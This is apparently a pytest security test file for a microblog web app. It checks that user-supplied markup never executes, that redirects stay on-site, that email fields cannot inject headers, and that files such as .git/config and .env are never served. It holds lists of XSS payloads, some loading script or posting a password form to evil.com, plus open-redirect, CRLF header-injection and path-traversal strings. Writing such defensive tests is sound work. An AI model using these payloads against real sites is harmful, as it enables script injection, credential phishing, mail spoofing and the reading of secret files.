"""What hostile people send: markup, URLs that lead away, lines that would become headers."""

import json
import re
from email import message_from_bytes, policy
from html.parser import HTMLParser
from urllib.parse import quote
from xml.etree import ElementTree

import pytest

from microblog.base.config import ROOT
from microblog.base.database import data_dir
from microblog.models import Message, Post, Session, Token, User
from tests.conftest import PASSWORD

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=//evil.com/x.swf>",
    "<base href=//evil.com/>",
    "<meta http-equiv=refresh content=0;url=//evil.com>",
    "<link rel=stylesheet href=//evil.com/x.css>",
    "<style>@import '//evil.com/x.css'</style>",
    "<form action=//evil.com><input name=password>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    'http://x.org/"onmouseover="alert(1)',
    "http://x.org/'onmouseover='alert(1)",
    "https://x.org/<script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% raw %}<details open ontoggle=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><script>alert(1)</script>",
]
FORBIDDEN = {"iframe", "object", "embed", "base", "math", "style", "animate", "mglyph", "audio", "video"}

AWAY = [
    "//evil.com",
    "///evil.com",
    "////evil.com/%2e%2e",
    "/\\evil.com",
    "\\\\evil.com",
    "/\t/evil.com",
    "/\r\n/evil.com",
    "https://evil.com",
    "https:evil.com",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://localhost@evil.com",
    "evil.com",
    " //evil.com",
    "/\x00/evil.com",
    "/explore\r\nSet-Cookie: session=evil",
]

INJECTIONS = [
    "x@example.org\r\nBcc: evil@evil.com",
    "x@example.org\nBcc: evil@evil.com",
    "x@example.org%0aBcc: evil@evil.com",
    "x@example.org\u2028Bcc: evil@evil.com",
    "x@example.org, evil@evil.com",
    "x@example.org;evil@evil.com",
    '"x\r\nBcc: evil@evil.com"@example.org',
    "<x@example.org> evil@evil.com",
    "x@example.org\x00evil@evil.com",
]


class Harmless(HTMLParser):
    """Parses a page and refuses whatever runs, loads or links to what the site itself does not."""

    def handle_starttag(self, tag, attributes):
        values = dict(attributes)
        assert tag not in FORBIDDEN, tag
        assert tag != "script" or values.get("src", "").startswith("/static/"), attributes
        assert tag != "link" or not values.get("href", "").startswith("//"), attributes
        assert "http-equiv" not in values or "url" not in values["content"].lower(), attributes
        for name, value in attributes:
            assert not name.startswith("on"), attributes
            assert name not in ("style", "srcdoc", "formaction"), attributes
            if name in ("href", "src", "action"):
                assert not (value or "").strip().lower().startswith(("javascript:", "data:", "//")), (
                    attributes
                )


def assert_harmless(response):
    assert response.status_code in (200, 201, 422), response.status
    if response.mimetype == "text/html":
        Harmless().feed(response.text)
    elif response.mimetype == "application/atom+xml":
        for element in ElementTree.fromstring(response.data).iter():
            if element.get("type") == "html" and element.text:
                Harmless().feed(element.text)
    else:
        assert "json" in response.mimetype
        json.loads(response.data)
    assert "script-src 'self'" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.asvs("1.2.1", "1.2.3", "3.2.2")
def test_markup_is_shown_and_never_obeyed(site, markup):
    susan = site.susan
    User.update(about_me=markup).where(User.id == susan.id).execute()
    post = Post.create(author=susan, body=markup, language="en")
    Message.send(susan, site.mary, markup)
    Message.send(site.mary, susan, markup)
    Token.issue(susan, markup[:64])
    Session.start(susan, False, markup)
    q = quote(markup)
    paths = {
        "nobody": ["/explore", "/user/susan", "/user/susan/popup", f"/post/{post.id}", f"/search?q={q}"],
        "susan": [
            "/",
            "/settings/account",
            "/settings/programs",
            "/messages",
            "/messages/mary",
            f"/post/{post.id}/delete",
        ],
        "mary": [
            f"/admin/users?q={q}",
            "/admin/security",
            "/settings/profile",
            f"/explore?before={q}&{q}={q}",
        ],
    }
    paths["nobody"] += ["/feed.atom", "/feed.json", f"/user/{q}", f"/auth/login?next={q}", f"/setup?code={q}"]

    answers = [site.visitors[who].get(path) for who, some in paths.items() for path in some]
    answers.append(site.browsers["susan"].post_form("/", post=markup * 9))
    answers.append(site.browsers["susan"].post_form("/edit_profile", username=markup, about_me=markup))
    answers.append(site.visitors["nobody"].post_form("/auth/login", username=markup, password=markup))
    answers.append(site.visitors["nobody"].post_form("/auth/register", username=markup, email=markup))
    token = {"Authorization": f"Bearer {site.secrets['susan']}"}
    answers += [site.app.test_client().get(f"/api/{name}", headers=token) for name in ("posts", "messages")]

    for response in answers:
        if response.status_code not in (302, 404):
            assert_harmless(response)


def test_the_same_markup_elsewhere_would_be_found():
    for evil in (MARKUP[0], MARKUP[3], MARKUP[10], MARKUP[15], MARKUP[19]):
        with pytest.raises(AssertionError):
            Harmless().feed(f"<p>{evil}</p>")


@pytest.mark.parametrize("away", AWAY)
@pytest.mark.asvs("1.2.2")
def test_no_redirect_leads_away(site, away):
    browser, stranger = site.browsers["john"], site.visitors["nobody"]
    fields = {"csrf_token": browser.csrf_token, "next": away}

    answers = [
        browser.get("/auth/login", query_string={"next": away}),
        browser.post("/follow/susan", data=fields),
        browser.post("/unfollow/susan", data=fields),
        browser.post("/preferences", data={**fields, "theme": "dark"}),
        browser.post(f"/post/{site.of['john'].post.id}/delete", data=fields),
        site.browsers["susan"].post_form(f"/tasks/{site.of['susan'].task.id}/dismiss", next=away),
        stranger.post(
            "/auth/login",
            query_string={"next": away},
            data={"username": "john", "password": PASSWORD, "csrf_token": stranger.csrf_token},
        ),
        stranger.get("/user/" + quote(away, safe="")),
    ]

    *forms, elsewhere = answers
    assert {response.status_code for response in forms} == {302}
    assert elsewhere.status_code in (302, 308, 404)
    for response in answers:
        # Some of Werkzeug's own redirects name the host, which has been checked to be ours.
        location = (response.location or "/").removeprefix("http://localhost")
        assert location.startswith("/"), location
        assert location[1:2] not in ("/", "\\"), location
        assert "evil" not in response.headers.get("Set-Cookie", "")


@pytest.mark.parametrize("address", INJECTIONS)
def test_no_field_adds_a_header_to_a_mail(site, address):
    stranger = site.visitors["nobody"]
    new = {"username": "new_one", "password": "battery staple", "password2": "battery staple"}

    answers = [
        stranger.post_form("/auth/reset_password_request", email=address),
        stranger.post_form("/auth/register", email=address, **new),
        site.browsers["susan"].post_form("/account/email", email=address, current_password=PASSWORD),
    ]

    assert [response.status_code for response in answers] == [422] * 3
    for path in (data_dir() / "outbox").glob("*.eml"):
        mail = message_from_bytes(path.read_bytes(), policy=policy.default)
        assert mail["Bcc"] is None
        assert "evil" not in str(mail["To"])
    assert not User.select().where(User.email.contains("evil")).exists()


def test_many_spellings_of_a_name_are_one_name(site):
    for name in ("ѕusan", "susan\u200b", "ｓｕｓａｎ", "sus\u00adan", "su\u0073\u0301an", "susan\u202e"):
        response = site.visitors["nobody"].post_form(
            "/auth/register",
            username=name,
            email="new@example.org",
            password="battery staple",
            password2="battery staple",
        )
        assert response.status_code == 422, ascii(name)


@pytest.mark.asvs("6.2.6", "6.2.7")
def test_password_fields_are_masked_and_can_be_filled_in(site):
    own = ("/account/password", "/account/email", "/account/delete")
    pages = [("nobody", path) for path in ("/auth/login", "/auth/register")] + [
        ("susan", path) for path in own
    ]
    for visitor, path in pages:
        page = site.visitors[visitor].get(path).text
        fields = re.findall(r'<input[^>]*name="\w*password\w*"[^>]*>', page)

        assert fields
        for field in fields:
            assert 'type="password"' in field
            assert re.search(r'autocomplete="(current|new)-password"', field)
    for script in (ROOT / "static" / "js").iterdir():
        assert "paste" not in script.read_text(), script


@pytest.mark.asvs("13.4.1")
def test_nothing_of_the_checkout_is_served(site):
    for path in (
        ".git/config",
        ".git/HEAD",
        ".env",
        "run.sh",
        "data/microblog.db",
        "microblog/base/config/__init__.py",
    ):
        for folder in ("", "static/0/", "static/0/../", "static/0/..%2f..%2f", "static/0/%2e%2e/%2e%2e/"):
            assert site.visitors["nobody"].get(f"/{folder}{path}").status_code == 404, folder + path


@pytest.mark.asvs("1.5.1")
def test_no_module_reads_xml():
    readers = re.compile(r"\b(etree|minidom|sax|pulldom|expat|lxml)\b.*\b(parse|fromstring|XML)\b")

    for path in (ROOT / "microblog").rglob("*.py"):
        assert not readers.search(path.read_text()), path
